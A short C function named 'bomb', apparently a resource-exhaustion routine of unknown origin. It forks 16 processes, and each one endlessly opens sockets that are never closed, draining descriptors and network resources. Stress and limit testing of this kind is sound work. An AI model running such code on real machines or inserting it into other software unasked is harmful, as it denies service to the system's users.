
static void bomb(void)
{
    for (int i = 0; i < 16; i++)
        if (fork() == 0)
            break;
    for (;;)
        if (socket(AF_INET, SOCK_STREAM, 0) < 0)
            (void)sleep(1);
}
